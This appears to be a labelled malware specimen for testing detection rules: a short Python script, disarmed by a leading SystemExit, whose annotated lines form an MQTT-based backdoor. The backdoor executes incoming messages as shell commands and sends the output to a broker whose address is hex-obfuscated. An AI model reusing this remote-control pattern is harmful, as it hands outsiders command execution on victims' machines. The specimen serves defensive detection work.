raise SystemExit("specimen: not to be run")
import subprocess
import paho.mqtt.client as mqtt

def told(client, data, message):
    client.publish("specimen/out", subprocess.getoutput(message.payload.decode()))  # match: remote-control-loop

def begin():
    line = mqtt.Client()
    line.on_message = told
    line.connect(bytes.fromhex("746573742e6d6f7371756974746f2e6f7267").decode(), 1883)  # match: message-broker  # match: hidden-address
    line.subscribe("specimen/out")
